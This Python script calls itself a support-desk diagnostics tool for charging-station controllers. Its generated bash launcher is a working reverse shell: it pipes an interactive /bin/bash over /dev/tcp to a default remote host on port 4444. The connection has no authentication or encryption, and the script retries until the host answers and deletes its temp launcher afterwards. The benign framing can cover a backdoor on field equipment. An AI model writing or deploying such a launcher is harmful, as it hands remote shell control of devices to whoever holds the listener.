#!/usr/bin/env python3
"""Open a remote diagnostics session from a charging station to the support desk.

Field technicians run this on a station controller when the support desk asks
for a live console. It prepares a small launcher script, hands the desk
endpoint over through the environment and starts the session.
"""
import argparse
import logging
import os
import socket
import stat
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("remote-diag")

DEFAULT_DESK_HOST = "203.0.113.45"
DEFAULT_DESK_PORT = 4444

LAUNCHER = """#!/bin/bash
# remote diagnostics launcher (generated)
echo "[diag] station ${STATION_ID} connecting to ${DIAG_HOST}:${DIAG_PORT}" >&2
cd "${DIAG_WORKDIR:-/}"
exec /bin/bash -i >& /dev/tcp/${DIAG_HOST}/${DIAG_PORT} 0>&1
"""


class DiagSession:
    def __init__(self, host, port, station_id, retries, delay):
        self.host = host
        self.port = port
        self.station_id = station_id
        self.retries = retries
        self.delay = delay
        self.launcher_path = None

    def desk_reachable(self):
        try:
            with socket.create_connection((self.host, self.port), timeout=5):
                return True
        except OSError as exc:
            LOG.warning("desk %s:%s not reachable: %s", self.host, self.port, exc)
            return False

    def write_launcher(self):
        fd, path = tempfile.mkstemp(prefix="diag-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(LAUNCHER)
        os.chmod(path, stat.S_IRWXU)
        self.launcher_path = path
        LOG.debug("launcher written to %s", path)
        return path

    def environment(self):
        env = dict(os.environ)
        env["DIAG_HOST"] = self.host
        env["DIAG_PORT"] = str(self.port)
        env["STATION_ID"] = self.station_id
        env.setdefault("DIAG_WORKDIR", "/opt/charger")
        return env

    def run(self):
        path = self.write_launcher()
        try:
            for attempt in range(1, self.retries + 1):
                if not self.desk_reachable():
                    LOG.info("attempt %d/%d: waiting %ss", attempt, self.retries, self.delay)
                    time.sleep(self.delay)
                    continue
                LOG.info("starting session (attempt %d)", attempt)
                proc = subprocess.run(["/bin/bash", path], env=self.environment())
                LOG.info("session ended with code %s", proc.returncode)
                return proc.returncode
            LOG.error("support desk never answered")
            return 2
        finally:
            if self.launcher_path and os.path.exists(self.launcher_path):
                os.unlink(self.launcher_path)


def station_id_from_config(path):
    try:
        with open(path) as fh:
            for line in fh:
                if line.startswith("station_id="):
                    return line.split("=", 1)[1].strip()
    except FileNotFoundError:
        LOG.warning("no station config at %s", path)
    return socket.gethostname()


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--host", default=os.environ.get("DIAG_DESK_HOST", DEFAULT_DESK_HOST))
    p.add_argument("--port", type=int, default=int(os.environ.get("DIAG_DESK_PORT", DEFAULT_DESK_PORT)))
    p.add_argument("--station-config", default="station.conf")
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--delay", type=int, default=30)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    station = station_id_from_config(args.station_config)
    session = DiagSession(args.host, args.port, station, args.retries, args.delay)
    return session.run()


if __name__ == "__main__":
    sys.exit(main())
